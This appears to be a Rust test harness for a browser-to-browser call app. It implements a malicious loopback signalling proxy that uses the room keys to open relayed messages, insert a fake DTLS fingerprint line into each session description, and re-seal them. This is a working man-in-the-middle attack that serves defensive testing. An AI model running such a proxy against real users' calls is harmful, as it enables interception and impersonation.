//! A malicious signalling server for one browser: a proxy between that browser and the real server
//! that knows the passphrase, as a hostile operator may. It reads the victim's hellos and those
//! sent to it, derives the pair keys of every pair the victim is in, opens every message relayed
//! to the victim, and re-seals it, so that it can change what one participant tells the other.
//! The attack it plays: a fake first `a=fingerprint` line in every description relayed to the
//! victim (the trick that once let a man in the middle show the safety number of a direct call).
//!
//! WebSocket frames from the server are not masked, so the proxy rewrites them in place; frames
//! from the browser are masked, and are only read (unmasked in a copy) and passed on unchanged.

use anyhow::{Context, Result};
use crypto::{PairChannel, RoomKeys, envelope_kind, open_hello};
use mesh::{Description, SignalBody};
use protocol::{ClientMessage, PeerId, ServerMessage};
use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::task::JoinHandle;

/// The fingerprint line the attack puts first in every description: well formed, not the
/// certificate anyone committed to.
const FAKE_FINGERPRINT_LINE: &str = "a=fingerprint:sha-256 \
    AB:AB:AB:AB:AB:AB:AB:AB:AB:AB:AB:AB:AB:AB:AB:AB:AB:AB:AB:AB:AB:AB:AB:AB:AB:AB:AB:AB:AB:AB:AB:AB";

pub struct MaliciousServer {
    address: SocketAddr,
    rewritten: Arc<Mutex<usize>>,
    accept_loop: JoinHandle<()>,
}

impl MaliciousServer {
    /// Listens on a free loopback port and forwards every connection to `server`, attacking the
    /// signalling of the browsers that connect through it with the room keys `keys`.
    pub async fn start(server: SocketAddr, keys: RoomKeys) -> Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0")
            .await
            .context("could not bind the malicious proxy")?;
        let address = listener.local_addr()?;
        let keys = Arc::new(keys);
        let rewritten = Arc::new(Mutex::new(0));
        let counter = rewritten.clone();
        let accept_loop = tokio::spawn(async move {
            while let Ok((client, _)) = listener.accept().await {
                tokio::spawn(intercept(client, server, keys.clone(), counter.clone()));
            }
        });
        Ok(Self {
            address,
            rewritten,
            accept_loop,
        })
    }

    pub fn origin(&self) -> String {
        format!("http://{}", self.address)
    }

    /// How many descriptions the attack has dressed up so far.
    pub fn descriptions_rewritten(&self) -> usize {
        self.rewritten
            .lock()
            .map(|count| *count)
            .unwrap_or_default()
    }
}

impl Drop for MaliciousServer {
    fn drop(&mut self) {
        self.accept_loop.abort();
    }
}

/// What the attacker has learnt on one signalling connection.
#[derive(Default)]
struct Knowledge {
    victim: Option<PeerId>,
    /// The victim's hello to each peer, and each peer's hello to the victim (plaintexts).
    sent_hellos: BTreeMap<PeerId, Vec<u8>>,
    received_hellos: BTreeMap<PeerId, Vec<u8>>,
    /// Per peer: the victim's view (to open) and the peer's (to re-seal).
    channels: BTreeMap<PeerId, (PairChannel, PairChannel)>,
}

async fn intercept(
    mut client: TcpStream,
    server: SocketAddr,
    keys: Arc<RoomKeys>,
    rewritten: Arc<Mutex<usize>>,
) {
    let Ok(mut upstream) = TcpStream::connect(server).await else {
        return;
    };
    let mut first = vec![0; 16 * 1024];
    let Ok(read) = client.read(&mut first).await else {
        return;
    };
    if upstream.write_all(&first[..read]).await.is_err() {
        return;
    }
    let (mut client_read, mut client_write) = client.into_split();
    let (mut upstream_read, mut upstream_write) = upstream.into_split();
    if !first[..read].starts_with(b"GET /ws") {
        // Page and assets: passed through untouched.
        let to_server = tokio::spawn(async move {
            let _ = tokio::io::copy(&mut client_read, &mut upstream_write).await;
        });
        let _ = tokio::io::copy(&mut upstream_read, &mut client_write).await;
        to_server.abort();
        return;
    }
    let knowledge = Arc::new(Mutex::new(Knowledge::default()));
    let observer = knowledge.clone();
    let observer_keys = keys.clone();
    let to_server = tokio::spawn(async move {
        let mut frames = Vec::new();
        let mut buffer = vec![0; 64 * 1024];
        while let Ok(read) = client_read.read(&mut buffer).await {
            if read == 0 {
                break;
            }
            frames.extend_from_slice(&buffer[..read]);
            while let Some((_, payload)) = next_frame(&mut frames) {
                observe_client(&payload, &observer_keys, &observer);
            }
            if upstream_write.write_all(&buffer[..read]).await.is_err() {
                break;
            }
        }
    });
    let mut pending = Vec::new();
    let mut buffer = vec![0; 64 * 1024];
    let mut upgraded = false;
    while let Ok(read) = upstream_read.read(&mut buffer).await {
        if read == 0 {
            break;
        }
        pending.extend_from_slice(&buffer[..read]);
        let mut out = Vec::new();
        if !upgraded {
            let Some(end) = pending.windows(4).position(|w| w == b"\r\n\r\n") else {
                continue;
            };
            out.extend(pending.drain(..end + 4));
            upgraded = true;
        }
        while let Some((head, payload)) = next_frame(&mut pending) {
            let payload = if head & 0x0f == 1 {
                rewrite_server(payload, &keys, &knowledge, &rewritten)
            } else {
                payload
            };
            out.extend(encode_frame(head, &payload));
        }
        if client_write.write_all(&out).await.is_err() {
            break;
        }
    }
    to_server.abort();
}

/// The browser's own messages: its hellos teach the attacker half of each pair's keys.
fn observe_client(payload: &[u8], keys: &RoomKeys, knowledge: &Mutex<Knowledge>) {
    let Ok(ClientMessage::Signal { to, payload }) = serde_json::from_slice(payload) else {
        return;
    };
    let Ok(mut knowledge) = knowledge.lock() else {
        return;
    };
    let (Some(victim), Ok(envelope)) = (knowledge.victim, crypto::from_base64(&payload)) else {
        return;
    };
    if envelope_kind(&envelope) == Some(crypto::HELLO_KIND)
        && let Ok(hello) = open_hello(keys.signal(), keys.room_id(), victim, to, &envelope)
    {
        knowledge.sent_hellos.insert(to, hello);
    }
}

/// A message the server relays to the victim: learnt from, and every description re-sealed with
/// a fake first fingerprint line. Anything else passes unchanged.
fn rewrite_server(
    payload: Vec<u8>,
    keys: &RoomKeys,
    knowledge: &Mutex<Knowledge>,
    rewritten: &Mutex<usize>,
) -> Vec<u8> {
    let Ok(mut knowledge) = knowledge.lock() else {
        return payload;
    };
    let message = serde_json::from_slice::<ServerMessage>(&payload);
    let (from, envelope) = match message {
        Ok(ServerMessage::Welcome { peer_id, .. }) => {
            *knowledge = Knowledge {
                victim: Some(peer_id),
                ..Knowledge::default()
            };
            return payload;
        }
        Ok(ServerMessage::Signal {
            from,
            payload: sealed,
        }) => match crypto::from_base64(&sealed) {
            Ok(envelope) => (from, envelope),
            Err(_) => return payload,
        },
        _ => return payload,
    };
    let Some(victim) = knowledge.victim else {
        return payload;
    };
    if envelope_kind(&envelope) == Some(crypto::HELLO_KIND) {
        if let Ok(hello) = open_hello(keys.signal(), keys.room_id(), from, victim, &envelope) {
            knowledge.received_hellos.insert(from, hello);
        }
        return payload;
    }
    if !knowledge.channels.contains_key(&from) {
        let (Some(sent), Some(received)) = (
            knowledge.sent_hellos.get(&from),
            knowledge.received_hellos.get(&from),
        ) else {
            return payload;
        };
        let room = keys.room_id().clone();
        let victims_view =
            PairChannel::new(keys.signal(), room.clone(), victim, from, sent, received);
        let peers_view = PairChannel::new(keys.signal(), room, from, victim, received, sent);
        let (Ok(victims_view), Ok(peers_view)) = (victims_view, peers_view) else {
            return payload;
        };
        knowledge.channels.insert(from, (victims_view, peers_view));
    }
    let Some((opener, sealer)) = knowledge.channels.get_mut(&from) else {
        return payload;
    };
    let Ok(opened) = opener.open(&envelope) else {
        return payload;
    };
    let mut plaintext = opened.plaintext;
    if let Ok(SignalBody::Description(description)) = serde_json::from_slice(&plaintext) {
        let dressed = SignalBody::Description(Description {
            sdp_type: description.sdp_type,
            sdp: with_fake_fingerprint_first(&description.sdp),
        });
        if let Ok(json) = serde_json::to_vec(&dressed) {
            plaintext = json;
            if let Ok(mut count) = rewritten.lock() {
                *count += 1;
            }
        }
    }
    // Every message from this peer is re-sealed, so the sequence numbers stay in step.
    let Ok(resealed) = sealer.seal(opened.kind, &plaintext) else {
        return payload;
    };
    let message = ServerMessage::Signal {
        from,
        payload: crypto::to_base64(&resealed),
    };
    serde_json::to_vec(&message).unwrap_or(payload)
}

fn with_fake_fingerprint_first(sdp: &str) -> String {
    match sdp.find("a=fingerprint:") {
        Some(at) => format!("{}{FAKE_FINGERPRINT_LINE}\r\n{}", &sdp[..at], &sdp[at..]),
        None => sdp.to_owned(),
    }
}

/// Takes one whole WebSocket frame off the front of `bytes`: its first byte (FIN and opcode) and
/// its payload, unmasked. `None` until a whole frame is there.
fn next_frame(bytes: &mut Vec<u8>) -> Option<(u8, Vec<u8>)> {
    let (&head, &second) = (bytes.first()?, bytes.get(1)?);
    let masked = second & 0x80 != 0;
    let (length, mut at) = match second & 0x7f {
        126 => (
            u64::from(u16::from_be_bytes([*bytes.get(2)?, *bytes.get(3)?])),
            4,
        ),
        127 => (u64::from_be_bytes(bytes.get(2..10)?.try_into().ok()?), 10),
        short => (u64::from(short), 2),
    };
    let mask: Option<[u8; 4]> = if masked {
        let mask = bytes.get(at..at + 4)?.try_into().ok()?;
        at += 4;
        Some(mask)
    } else {
        None
    };
    let end = at + usize::try_from(length).ok()?;
    let mut payload = bytes.get(at..end)?.to_vec();
    if let Some(mask) = mask {
        payload
            .iter_mut()
            .enumerate()
            .for_each(|(i, byte)| *byte ^= mask[i % 4]);
    }
    bytes.drain(..end);
    Some((head, payload))
}

/// An unmasked frame, as a server sends it.
fn encode_frame(head: u8, payload: &[u8]) -> Vec<u8> {
    let mut frame = vec![head];
    match payload.len() {
        short @ 0..=125 => frame.push(short as u8),
        medium @ 126..=0xffff => {
            frame.push(126);
            frame.extend((medium as u16).to_be_bytes());
        }
        long => {
            frame.push(127);
            frame.extend((long as u64).to_be_bytes());
        }
    }
    frame.extend_from_slice(payload);
    frame
}
